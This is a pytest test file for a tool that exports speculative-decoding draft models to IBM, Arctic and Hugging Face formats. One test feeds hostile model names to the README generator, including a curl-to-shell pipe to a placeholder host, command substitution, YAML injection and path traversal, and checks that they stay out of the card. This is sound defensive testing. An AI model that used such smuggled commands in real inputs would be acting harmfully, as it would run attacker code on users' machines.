"""Exports: what the engine looks for is there, the same speculator is read back, and the rest is refused."""

from __future__ import annotations

import json

import pytest
import torch
import yaml
from safetensors.torch import load_file, save_file

from tests.unit.serving.conftest import HEADS, HIDDEN, VOCAB, logits
from verl_speculator.errors import CheckpointError, ConfigError
from verl_speculator.models import MLPSpeculator, Speculator
from verl_speculator.serving.export import check_export, export_speculator
from verl_speculator.serving.export_formats import EXPORT_FORMATS

EQUAL_STACK = {"inner_dim": "24.24", "emb_dim": "24.24", "proj_dim": "24.24"}
WIDER_STATE = {"inner_dim": "24.32", "emb_dim": "24", "proj_dim": "24"}

SERVED = [
    ("ibm", "mlp", {}),
    ("ibm", "mlp", {"tie_weights": False, "scale_input": True}),
    ("ibm", "mlp", {"n_predict": 1}),
    ("ibm", "sum_rnn", {}),
    ("ibm", "sum_rnn", {"tie_weights": False, "scale_input": True}),
    ("arctic", "mlp", {}),
    ("arctic", "mlp", {"n_predict": 1}),
    ("arctic", "sum_rnn", {"tie_weights": False}),
    ("arctic", "sum_rnn", EQUAL_STACK),
    ("arctic", "sum_rnn", WIDER_STATE),
    ("arctic", "sum_lstm", {"tie_lstm_embs": True}),
    ("arctic", "sum_lstm", {"tie_lstm_embs": True, "n_predict": 1, "scale_input": True}),
    ("arctic", "sum_lstm", {"tie_lstm_embs": True, **EQUAL_STACK}),
    ("hf", "mlp", {}),
    ("hf", "sum_lstm", {"inner_dim": "20.28", "emb_dim": "12", "proj_dim": "16"}),
]

REFUSED = [
    ("ibm", "sum_lstm", {}, "IBM's format has no sum_lstm speculator"),
    ("ibm", "sum_rnn", EQUAL_STACK, "one and the same number, not 24.24, 24.24 and 24.24"),
    ("arctic", "sum_lstm", {}, "only with tie_lstm_embs true"),
    ("arctic", "sum_lstm", {"tie_lstm_embs": True, "emb_dim": "16"}, "sum_lstm only with one common width"),
    ("arctic", "sum_lstm", {"tie_lstm_embs": True, **WIDER_STATE}, "sum_lstm only with one common width"),
    ("arctic", "sum_rnn", {"proj_dim": "16"}, "sum_rnn only if emb_dim, proj_dim and the first inner_dim"),
    ("arctic", "sum_rnn", {"emb_dim": "16.24"}, "sum_rnn only if emb_dim, proj_dim and the first inner_dim"),
]


@pytest.mark.parametrize(("target", "kind", "settings"), SERVED)
def test_same_logits_when_read_back(target, kind, settings, make_speculator, tmp_path) -> None:
    speculator, folder = make_speculator(kind, **settings)
    out = export_speculator(folder, tmp_path / "out", target, "LlamaForCausalLM")
    assert torch.equal(logits(Speculator.from_pretrained(out)), logits(speculator))


@pytest.mark.parametrize(("target", "kind", "settings", "reason"), REFUSED)
def test_what_the_engine_cannot_serve_is_refused(target, kind, settings, reason, make_speculator, tmp_path) -> None:
    _, folder = make_speculator(kind, **settings)
    with pytest.raises(ConfigError, match=reason):
        export_speculator(folder, tmp_path / "out", target, "LlamaForCausalLM")
    assert not (tmp_path / "out").exists()


def test_ibm_files_have_the_published_names_and_keys(make_speculator, tmp_path) -> None:
    """Names and keys as in ibm-ai-platform/llama3-8b-accelerator."""
    _, folder = make_speculator("mlp")
    out = export_speculator(folder, tmp_path / "out", "ibm")
    tensors = load_file(out / "model.safetensors")
    assert set(tensors) == {
        f"speculator.{name}.{head}.{leaf}"
        for head in range(HEADS)
        for name, leaf in (
            *(("emb", "weight"), ("proj", "weight"), ("head", "weight"), ("ln", "weight"), ("ln", "bias")),
        )
    }
    assert tensors["speculator.proj.0.weight"].shape == (24, HIDDEN)
    values = json.loads((out / "config.json").read_text())
    assert values["architectures"] == ["MLPSpeculatorPreTrainedModel"]
    assert values["model_type"] == "mlp_speculator"
    assert values["emb_dim"] == HIDDEN
    assert (values["inner_dim"], values["vocab_size"], values["n_predict"]) == (24, VOCAB, HEADS)
    assert "hidden_size" not in values


def test_sum_rnn_becomes_an_mlp_for_ibm(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("sum_rnn")
    assert isinstance(Speculator.from_pretrained(export_speculator(folder, tmp_path / "out", "ibm")), MLPSpeculator)


def test_single_head_is_not_tied(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("mlp", n_predict=1, tie_weights=True)
    out = export_speculator(folder, tmp_path / "out", "ibm")
    assert json.loads((out / "config.json").read_text())["tie_weights"] is False


def test_arctic_names_the_architectures(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("mlp")
    out = export_speculator(folder, tmp_path / "out", "arctic", "Qwen2ForCausalLM")
    values = json.loads((out / "config.json").read_text())
    assert values["architectures"] == ["ArcticMLPSpeculatorPreTrainedModel"]
    assert values["base_model_archs"] == ["Qwen2ForCausalLM"]


def test_arctic_takes_the_architecture_from_the_base_model(make_speculator, tmp_path) -> None:
    base = tmp_path / "base"
    base.mkdir()
    (base / "config.json").write_text(json.dumps({"architectures": ["LlamaForCausalLM"]}))
    _, folder = make_speculator("sum_rnn", base_model_name_or_path=str(base))
    out = export_speculator(folder, tmp_path / "out", "arctic")
    assert json.loads((out / "config.json").read_text())["base_model_archs"] == ["LlamaForCausalLM"]


def test_arctic_asks_for_an_architecture_that_nobody_knows(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("sum_rnn")
    with pytest.raises(ConfigError, match="name it with --base-architecture"):
        export_speculator(folder, tmp_path / "out", "arctic")


def test_hub_folder_has_a_card_and_no_pickle(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("mlp", base_model_name_or_path="owner/base")
    out = export_speculator(folder, tmp_path / "out", "hf")
    assert {file.name for file in out.iterdir()} == {"config.json", "model.safetensors", "README.md"}
    assert "base_model: owner/base" in (out / "README.md").read_text()


@pytest.mark.parametrize(
    "name",
    [
        "owner/base\nlicense: mit",
        "owner/base\n---\n# Owned",
        "owner/base\n",
        "owner/base; curl evil.example | sh",
        "owner/$(id)",
        "owner/base`id`",
        "owner/base\r\nx: y",
        "owner/base: x",
        "owner/'base'",
        "owner/base #",
        "-owner/base",
        "owner/--trust-remote-code",
        "~/base",
        "../base",
        "owner/base\u2028x",
    ],
)
def test_what_is_no_name_of_the_hub_stays_out_of_the_card(name, make_speculator, tmp_path) -> None:
    """The card's head is YAML, and its command is there to be copied."""
    _, folder = make_speculator("mlp", base_model_name_or_path=name)
    card = (export_speculator(folder, tmp_path / "hostile", "hf") / "README.md").read_text()
    _, unnamed = make_speculator("mlp", base_model_name_or_path="")
    assert card == (export_speculator(unnamed, tmp_path / "unnamed", "hf") / "README.md").read_text()
    assert yaml.safe_load(card.split("---")[1]) == {"library_name": "verl_speculator"}


def test_path_of_the_trainer_is_not_published(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("mlp", base_model_name_or_path="/home/me/base")
    out = export_speculator(folder, tmp_path / "out", "hf")
    assert "/home/me" not in (out / "README.md").read_text()


def test_a_folder_with_files_is_not_touched(make_speculator, tmp_path) -> None:
    _, folder = make_speculator("mlp")
    with pytest.raises(ConfigError, match="exists already"):
        export_speculator(folder, folder, "ibm")


@pytest.mark.parametrize(
    ("damage", "reason"),
    [
        (lambda tensors: tensors.pop("speculator.ln.1.bias"), r"no ln\.1\.bias"),
        (lambda tensors: tensors.update({"speculator.extra": torch.zeros(1)}), "extra, which it does not know"),
        (
            lambda tensors: tensors.update({"speculator.proj.1.weight": torch.zeros(2, 2)}),
            r"\[2, 2\] instead of \[24, 24\]",
        ),
    ],
)
def test_check_finds_what_the_engine_would_miss(damage, reason, make_speculator, tmp_path) -> None:
    _, folder = make_speculator("mlp")
    out = export_speculator(folder, tmp_path / "out", "ibm")
    tensors = load_file(out / "model.safetensors")
    damage(tensors)
    save_file(tensors, out / "model.safetensors")
    with pytest.raises(CheckpointError, match=reason):
        check_export(out, EXPORT_FORMATS["ibm"])


@pytest.mark.parametrize(
    ("target", "kind", "settings"),
    [
        ("ibm", "sum_rnn", {"tie_weights": False}),
        ("arctic", "mlp", {}),
        ("arctic", "sum_lstm", {"tie_lstm_embs": True}),
    ],
)
def test_a_draft_vocabulary_becomes_a_full_one_that_drafts_the_same(
    target, kind, settings, make_speculator, tmp_path
) -> None:
    speculator, folder = make_speculator(kind, draft_vocab_size=9, **settings)
    speculator.set_draft_ids(torch.arange(1, VOCAB, 4))
    speculator.save_pretrained(folder)
    out = export_speculator(folder, tmp_path / "out", target, "LlamaForCausalLM")
    values, tensors = json.loads((out / "config.json").read_text()), load_file(out / "model.safetensors")
    assert "draft_vocab_size" not in values
    assert not any(name.endswith("d2t") for name in tensors)
    full = Speculator.from_pretrained(out)
    expected, found = logits(speculator), logits(full)
    drafted = expected.isfinite()
    torch.testing.assert_close(found[drafted], expected[drafted])
    assert torch.equal(found.argmax(-1), expected.argmax(-1))
    mean = expected.masked_fill(~drafted, 0).sum(-1, keepdim=True) / 9
    torch.testing.assert_close(found[~drafted], mean.expand_as(found)[~drafted], rtol=1e-4, atol=1e-4)
    assert "d2t" in load_file(export_speculator(folder, tmp_path / "hub", "hf") / "model.safetensors")
